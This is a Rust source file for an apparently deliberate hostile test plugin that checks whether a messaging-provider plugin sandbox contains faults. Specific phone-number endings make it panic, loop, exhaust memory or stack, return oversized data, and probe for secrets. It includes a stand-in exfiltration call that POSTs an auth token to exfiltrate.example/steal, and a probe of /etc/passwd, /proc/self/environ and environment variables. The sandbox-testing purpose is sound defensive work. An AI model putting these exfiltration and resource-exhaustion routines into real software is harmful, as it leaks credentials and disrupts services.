//! A provider that misbehaves on purpose, to prove the sandbox holds. It
//! behaves like `twilio-sms` (same code) except for recipients ending in:
//!
//! | last 4 | behaviour in `send` |
//! |---|---|
//! | `0666` | traps (panics) |
//! | `0999` | loops forever without yielding |
//! | `0777` | allocates until the memory cap stops it |
//! | `0888` | recurses until the stack overflows |
//! | `0555` | calls `http-send` on a host outside its allowed hosts |
//! | `0444` | looks for secrets in its environment and files, and counts the sends this instance's memory has seen, then sends what it found as the body |
//! | `0333` | returns an 8 MiB provider message id |
//! | `0222` | says the provider may have the message (1.2 `mark-uncertain`), then returns `transient` without sending |
//!
//! and `handle-webhook` panics when the body contains `panic`; so does
//! `handle-webhooks` (1.4) when one of its requests' does, which fails
//! the whole call. `handle-webhooks` answers as `handle-webhook` does, plus
//! a header `x-test-batch-size` with the number of requests in the call.
//!
//! Built as itself (see build.rs) it also exports `send-all` (1.5), which
//! sends like `twilio-sms`'s except when one of its messages' recipients
//! ends in:
//!
//! | last 4 | behaviour in `send-all` |
//! |---|---|
//! | `0662`, or any of `send`'s above | traps before sending anything (the host then sends each message alone, with `send`) |
//! | `0661` | sends every other message's request (each tagged with its message), then traps |

#[cfg(sends_all)]
herald_plugin::bindings!("../../wit", "sending-provider-plugin");
#[cfg(not(sends_all))]
herald_plugin::bindings!("../../wit", "batching-provider-plugin");

/// `HERALD_PLUGIN_NAME` at build time overrides it: built as `twilio-sms`,
/// it is a version of the real one that faults on the numbers above (the
/// canary tests' bad canary, see dev.sh).
const PLUGIN_NAME: &str = match option_env!("HERALD_PLUGIN_NAME") {
    Some(n) => n,
    None => "test-hostile",
};
/// `HERALD_PLUGIN_VERSION` at build time overrides it, so a second,
/// distinguishable version can be built for hot-reload tests.
const PLUGIN_VERSION: &str = match option_env!("HERALD_PLUGIN_VERSION") {
    Some(v) => v,
    None => "1.0.0",
};

// The Twilio logic, compiled against this crate's own bindings.
#[path = "../../twilio-sms/src/provider.rs"]
mod provider;
use twilio_wire as wire;

use exports::herald::provider::provider::Guest;
use exports::herald::provider::webhooks::Guest as Webhooks;
use herald_plugin::types::{
    Config, Content, DeliveryStatus, DeliveryUpdate, HttpAuth, HttpError, HttpRequest,
    OutboundMessage, PluginManifest, Rejection, SendError, SendReceipt, TemplateInfo, WebhookError,
    WebhookOutcome, WebhookRequest,
};

struct Hostile;

/// Sends this instance has handled.
static SENDS_SEEN: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);

impl Guest for Hostile {
    fn manifest() -> PluginManifest {
        provider::manifest(PLUGIN_NAME, PLUGIN_VERSION)
    }

    fn validate_config(config: Config) -> Result<(), String> {
        provider::validate_config(&config)
    }

    fn send(config: Config, message: OutboundMessage) -> Result<SendReceipt, SendError> {
        // In the data segment: a count above 1 would mean an instance's
        // memory survived into another call (or another tenant's).
        SENDS_SEEN.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        match message.to.get(message.to.len().saturating_sub(4)..) {
            Some("0666") => panic!("hostile plugin: deliberate trap"),
            Some("0999") => spin_forever(),
            Some("0777") => exhaust_memory(),
            Some("0888") => Ok(SendReceipt {
                provider_message_id: recurse(1).to_string(),
                status: DeliveryStatus::Sent,
            }),
            Some("0555") => call_forbidden_host(),
            Some("0444") => {
                let mut probed = message.clone();
                if let Content::Text(text) = &mut probed.content {
                    text.body = probe_ambient_secrets();
                }
                provider::send(&config, &probed)
            }
            Some("0333") => Ok(SendReceipt {
                provider_message_id: "x".repeat(8 << 20),
                status: DeliveryStatus::Sent,
            }),
            Some("0222") => {
                herald_plugin::uncertainty::mark_uncertain(
                    "the gateway answered in a way this plugin cannot read",
                );
                Err(SendError::Transient("unreadable answer".into()))
            }
            _ => provider::send(&config, &message),
        }
    }

    fn handle_webhook(
        config: Config,
        request: WebhookRequest,
    ) -> Result<WebhookOutcome, WebhookError> {
        if request.body.windows(5).any(|w| w == b"panic") {
            panic!("hostile plugin: panicking in handle-webhook");
        }
        provider::handle_webhook(&config, &request)
    }

    fn fetch_status(config: Config, id: String) -> Result<Option<DeliveryUpdate>, SendError> {
        provider::fetch_status(&config, &id)
    }

    fn list_templates(_config: Config) -> Result<Vec<TemplateInfo>, SendError> {
        Ok(Vec::new())
    }
}

/// The recipients' endings `send` misbehaves on.
#[cfg(sends_all)]
const SEND_MISBEHAVIOURS: [&str; 8] = [
    "0666", "0999", "0777", "0888", "0555", "0444", "0333", "0222",
];

#[cfg(sends_all)]
impl exports::herald::provider::sends::Guest for Hostile {
    fn send_all(
        config: Config,
        messages: Vec<OutboundMessage>,
    ) -> Vec<Result<SendReceipt, SendError>> {
        SENDS_SEEN.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let ending =
            |m: &OutboundMessage| m.to.get(m.to.len().saturating_sub(4)..).map(str::to_owned);
        let endings: Vec<String> = messages.iter().filter_map(ending).collect();
        if endings
            .iter()
            .any(|e| e == "0662" || SEND_MISBEHAVIOURS.contains(&e.as_str()))
        {
            panic!("hostile plugin: send-all traps before sending anything");
        }
        if endings.iter().any(|e| e == "0661") {
            // Every other message's request, each tagged with its message,
            // then the trap: only the 0661 one never left.
            let requests: Vec<_> = messages
                .iter()
                .enumerate()
                .filter(|(_, m)| ending(m).as_deref() != Some("0661"))
                .map(|(at, m)| herald_plugin::batch_http::MessageRequest {
                    message: at as u32,
                    request: provider::message_request(&config, m).expect("a text message"),
                })
                .collect();
            herald_plugin::host::http_send_all(&requests);
            panic!("hostile plugin: send-all traps after its other messages' requests left");
        }
        provider::send_all(&config, &messages)
    }
}

/// The header `handle-webhooks` adds to each answer: the call's count.
const BATCH_HEADER: &str = "x-test-batch-size";

impl Webhooks for Hostile {
    fn handle_webhooks(
        config: Config,
        requests: Vec<WebhookRequest>,
    ) -> Vec<Result<WebhookOutcome, WebhookError>> {
        // Says, on each answer, how many came from this one call: what
        // shows a test that the host batched them.
        let count = requests.len().to_string();
        requests
            .into_iter()
            .map(|request| {
                let mut outcome = Self::handle_webhook(config.clone(), request)?;
                outcome
                    .response
                    .headers
                    .push((BATCH_HEADER.into(), count.clone()));
                Ok(outcome)
            })
            .collect()
    }
}

/// Never returns: each frame is kept alive by the addition after the call.
#[allow(unconditional_recursion)] // the point: overflow the stack
fn recurse(depth: u64) -> u64 {
    let mut frame = [depth; 64];
    core::hint::black_box(&mut frame);
    recurse(depth + 1) + frame[7]
}

fn call_forbidden_host() -> Result<SendReceipt, SendError> {
    let request = HttpRequest {
        method: "POST".into(),
        url: "https://exfiltrate.example/steal".into(),
        headers: Vec::new(),
        body: b"token={{secret.auth-token}}".to_vec(),
        auth: HttpAuth::None,
        timeout_ms: None,
    };
    match herald_plugin::imports::http_send(&request) {
        Ok(_) => Err(SendError::Rejected(Rejection {
            code: "escaped".into(),
            message: "the host let a request out to a forbidden host".into(),
        })),
        Err(HttpError::NotAllowed(why)) => Err(SendError::InvalidConfig(why)),
        Err(other) => Err(SendError::Transient(format!("{other:?}"))),
    }
}

/// What a plugin can find without the host's help: nothing.
fn probe_ambient_secrets() -> String {
    let env = std::env::vars().count();
    let files = [
        "/etc/passwd",
        "/proc/self/environ",
        "herald.db",
        ".herald-cache",
    ]
    .iter()
    .filter(|p| std::fs::metadata(p).is_ok())
    .count();
    let root = std::fs::read_dir("/").map(|d| d.count()).unwrap_or(0);
    let seen = SENDS_SEEN.load(std::sync::atomic::Ordering::Relaxed);
    format!("ambient: env={env} files={files} root_entries={root} sends_seen={seen}")
}

fn spin_forever() -> ! {
    let mut n: u64 = 0;
    loop {
        n = core::hint::black_box(n.wrapping_add(1));
    }
}

fn exhaust_memory() -> ! {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        // Touch every page so the memory is really committed.
        hoard.push(vec![0xA5; 1 << 20]);
        core::hint::black_box(&hoard);
    }
}

export!(Hostile);
